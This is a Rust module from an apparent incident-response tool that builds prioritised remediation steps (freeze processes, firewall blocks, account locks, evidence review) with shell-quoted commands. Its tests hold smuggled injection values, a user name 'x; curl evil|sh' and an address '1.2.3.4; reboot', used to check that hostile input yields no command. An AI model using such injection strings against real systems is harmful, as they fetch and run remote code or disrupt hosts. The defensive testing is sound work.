//! What to do now: concrete, most urgent first, each with a command to copy where one is safe to copy.
//!
//! A string from the host gets into a command only through [`super::shell`] or by being an address or a number; otherwise the step
//! comes without a command. Nothing here runs anything: a person does.

use std::{collections::BTreeSet, net::IpAddr};

use bongsu_api::{Incident, NextStep, ProcessNode};
use bongsu_event::Severity;

use super::{
    names::{listed, quoted},
    shell,
};

/// How many steps a person is given at most.
pub(crate) const STEPS_MAX: usize = 14;

/// How many of one kind: ten addresses are blocked by a firewall's own tools, not by pasting lines.
const SAME_KIND_MAX: usize = 3;

/// The steps for an incident, most urgent first.
pub(crate) fn next_steps(incident: &Incident) -> Vec<NextStep> {
    let mut steps = Vec::new();
    steps.extend(freeze(incident));
    steps.extend(block_outgoing(incident));
    steps.extend(block_incoming(incident));
    steps.extend(lock_accounts(incident));
    steps.extend(look_at_evidence(incident));
    steps.extend(change_passwords(incident));
    steps.extend(look_at_files(incident));
    steps.extend(check_other_hosts(incident));
    steps.extend(mind_blind_spots(incident));
    steps.push(step("Read the whole incident before you close it.", incident_command(&incident.summary.id)));
    let mut seen = BTreeSet::new();
    steps.retain(|step| seen.insert((step.text.clone(), step.command.clone())));
    steps.truncate(STEPS_MAX);
    steps
}

fn step(text: impl Into<String>, command: Option<String>) -> NextStep {
    NextStep { text: text.into(), command }
}

fn incident_command(id: &str) -> Option<String> {
    Some(format!("bongsu incident show {}", shell::word(id)?))
}

/// The pids of processes that a finding worth a look speaks of, with all they started, without those that are known to have ended.
fn suspects(incident: &Incident) -> BTreeSet<u32> {
    let grave = |id: &String| {
        let finding = incident.findings.iter().find(|finding| finding.id == *id && finding.detector != "anomaly");
        finding.and_then(|finding| finding.severity.parse::<Severity>().ok()).is_some_and(|it| it >= Severity::High)
    };
    let ended: BTreeSet<&str> = incident
        .timeline
        .iter()
        .filter(|entry| entry.action == "exit")
        .filter_map(|entry| entry.process_key.as_deref())
        .collect();
    let mut pids = BTreeSet::new();
    let mut open: Vec<(&ProcessNode, bool)> = incident.process_tree.iter().map(|node| (node, false)).collect();
    while let Some((node, inherited)) = open.pop() {
        let suspect = inherited || node.finding_ids.iter().any(grave);
        if suspect && node.pid > 1 && !ended.contains(node.key.as_str()) {
            pids.insert(node.pid);
        }
        open.extend(node.children.iter().map(|child| (child, suspect)));
    }
    pids
}

fn freeze(incident: &Incident) -> Vec<NextStep> {
    let pids: Vec<String> = suspects(incident).iter().take(20).map(u32::to_string).collect();
    // With processes of several hosts in one incident a pid alone does not say where.
    let [host] = incident.summary.hosts.as_slice() else { return Vec::new() };
    if pids.is_empty() {
        return Vec::new();
    }
    let host = quoted(host);
    vec![
        step(
            format!("On {host}, see whether these processes still run. A number may since belong to another process."),
            Some(format!("ps -o pid,lstart,user,args -p {}", pids.join(","))),
        ),
        step(
            format!(
                "On {host}, freeze those that do: they stop at once, and their memory stays for an examination. kill -CONT undoes it."
            ),
            Some(format!("kill -STOP {}", pids.join(" "))),
        ),
    ]
}

/// The addresses that events with one of `actions` name in `field`, without those that cannot be an attacker's.
fn addresses(incident: &Incident, actions: &[&str], field: &str) -> Vec<IpAddr> {
    let mut found = Vec::new();
    for entry in incident.timeline.iter().filter(|entry| actions.contains(&entry.action.as_str())) {
        let Some(address) = entry.fields.get(field).and_then(|text| text.parse::<IpAddr>().ok()) else { continue };
        let address = address.to_canonical();
        if !address.is_loopback() && !address.is_unspecified() && !address.is_multicast() && !found.contains(&address) {
            found.push(address);
        }
    }
    found
}

fn firewall(address: IpAddr) -> &'static str {
    if address.is_ipv4() { "iptables" } else { "ip6tables" }
}

fn block_outgoing(incident: &Incident) -> Vec<NextStep> {
    let block = |address: IpAddr| {
        step(
            format!(
                "Cut the way out to {address}, where a program of this incident connected. -D instead of -I undoes it."
            ),
            Some(format!("{} -I OUTPUT -d {address} -j DROP", firewall(address))),
        )
    };
    addresses(incident, &["connect"], "destination.ip").into_iter().take(SAME_KIND_MAX).map(block).collect()
}

fn block_incoming(incident: &Incident) -> Vec<NextStep> {
    let block = |address: IpAddr| {
        step(
            format!("Block {address}, from where the logins came. -D instead of -I undoes it."),
            Some(format!("{} -I INPUT -s {address} -j DROP", firewall(address))),
        )
    };
    let addresses = addresses(incident, &["login-failure", "login-success"], "source.ip");
    addresses.into_iter().take(SAME_KIND_MAX).map(block).collect()
}

/// Accounts that the attacker got into: locking one that was only tried would do the attacker's work.
fn entered_accounts(incident: &Incident) -> BTreeSet<&str> {
    let entries = incident.timeline.iter().filter(|entry| match entry.action.as_str() {
        "login-success" => true,
        "elevation" => entry.fields.get("event.outcome").is_none_or(|outcome| outcome != "failure"),
        _ => false,
    });
    entries.filter_map(|entry| entry.fields.get("user.name").map(String::as_str)).collect()
}

fn lock_accounts(incident: &Incident) -> Vec<NextStep> {
    let mut steps = Vec::new();
    for name in entered_accounts(incident).into_iter().take(SAME_KIND_MAX) {
        let (shown, safe) = (quoted(name), shell::account(name));
        if name == "root" {
            let text = "Give root a new password and look at who may log in as root by key.";
            steps.push(step(text, Some("cat /root/.ssh/authorized_keys".to_owned())));
            continue;
        }
        steps.push(step(
            format!("Lock the account {shown}, unless its owner confirms every login of this incident. usermod -U -e '' undoes it."),
            safe.map(|name| format!("usermod -L -e 1 {name}")),
        ));
        steps.push(step(
            format!("End what {shown} has open."),
            safe.map(|name| format!("loginctl terminate-user {name}")),
        ));
        steps.push(step(
            format!("See what {shown} left to be started later."),
            safe.map(|name| format!("crontab -l -u {name}")),
        ));
    }
    steps
}

fn look_at_evidence(incident: &Incident) -> Vec<NextStep> {
    let look = |evidence: &bongsu_api::Evidence| {
        let found = match evidence.verdict.yara_rules.as_slice() {
            [] => format!("the scan came to: {}", evidence.verdict.outcome),
            rules => format!("it matched {}", listed(&rules.iter().map(|rule| quoted(rule)).collect::<Vec<_>>())),
        };
        let is_hash = evidence.sha256.len() == 64 && evidence.sha256.bytes().all(|byte| byte.is_ascii_hexdigit());
        step(
            format!(
                "Look at the program taken from {} on another machine than your own; {found}.",
                quoted(&evidence.path)
            ),
            is_hash.then(|| format!("bongsu evidence fetch {}", evidence.sha256)),
        )
    };
    incident.evidence.iter().take(SAME_KIND_MAX).map(look).collect()
}

fn change_passwords(incident: &Incident) -> Option<NextStep> {
    let read = incident.timeline.iter().any(|entry| {
        entry.action == "file-read" && entry.fields.get("file.path").is_some_and(|path| path.ends_with("shadow"))
    });
    read.then(|| step("Give every account of the host a new password: the file with their hashes was read.", None))
}

fn look_at_files(incident: &Incident) -> Vec<NextStep> {
    let mut paths = Vec::new();
    for entry in incident.timeline.iter().filter(|entry| matches!(entry.action.as_str(), "file-create" | "file-write"))
    {
        if let Some(path) = entry.fields.get("file.path")
            && !paths.contains(&path)
        {
            paths.push(path);
        }
    }
    let look = |path: &String| {
        let command = shell::word(path).map(|path| format!("stat -- {path}"));
        step(format!("See whether {} should be there.", quoted(path)), command)
    };
    paths.into_iter().take(SAME_KIND_MAX).map(look).collect()
}

fn check_other_hosts(incident: &Incident) -> Vec<NextStep> {
    let mut all = addresses(incident, &["login-failure", "login-success"], "source.ip");
    all.extend(addresses(incident, &["connect"], "destination.ip"));
    let mut seen = BTreeSet::new();
    all.retain(|address| seen.insert(*address));
    let check = |address: IpAddr| {
        step(
            format!("On your other hosts, see whether their logs know {address}."),
            Some(format!("grep -rFw -e {address} /var/log")),
        )
    };
    all.into_iter().take(SAME_KIND_MAX - 1).map(check).collect()
}

fn mind_blind_spots(incident: &Incident) -> Option<NextStep> {
    (!incident.blind_spots.is_empty()).then(|| {
        step(
            "Mind that some events were lost: what this page does not show may still have happened.",
            Some("bongsu sensor list".to_owned()),
        )
    })
}

#[cfg(test)]
mod tests {
    use super::{super::example, *};

    fn shown(incident: &Incident) -> String {
        let line = |step: NextStep| match step.command {
            Some(command) => format!("{}\n    {command}", step.text),
            None => step.text,
        };
        next_steps(incident).into_iter().map(line).collect::<Vec<_>>().join("\n")
    }

    #[test]
    fn steps_after_a_brute_force() {
        insta::assert_snapshot!(shown(&example::brute_force()));
    }

    #[test]
    fn steps_after_a_web_shell() {
        insta::assert_snapshot!(shown(&example::web_shell()));
    }

    #[test]
    fn hostile_names_come_without_a_command() {
        let mut incident = example::brute_force();
        for entry in &mut incident.timeline {
            entry.fields.insert("user.name".to_owned(), "x; curl evil|sh".to_owned());
            entry.fields.insert("source.ip".to_owned(), "1.2.3.4; reboot".to_owned());
        }
        let steps = next_steps(&incident);
        assert!(
            steps
                .iter()
                .all(|step| !step.command.as_ref().is_some_and(|it| it.contains("curl evil") || it.contains("reboot")))
        );
        assert!(steps.iter().any(|step| step.text.starts_with("Lock the account") && step.command.is_none()));
    }

    #[test]
    fn no_step_comes_twice_and_there_are_never_too_many() {
        for incident in [example::brute_force(), example::web_shell()] {
            let steps = next_steps(&incident);
            let distinct: BTreeSet<_> = steps.iter().map(|step| (&step.text, &step.command)).collect();
            assert_eq!(distinct.len(), steps.len());
            assert!(steps.len() <= STEPS_MAX);
        }
    }

    #[test]
    fn a_process_that_has_ended_is_not_to_be_frozen() {
        // 5101 (`id`) has ended; nginx (800) started the shell but no finding speaks of it.
        assert_eq!(suspects(&example::web_shell()).into_iter().collect::<Vec<_>>(), [5100, 5102]);
    }
}
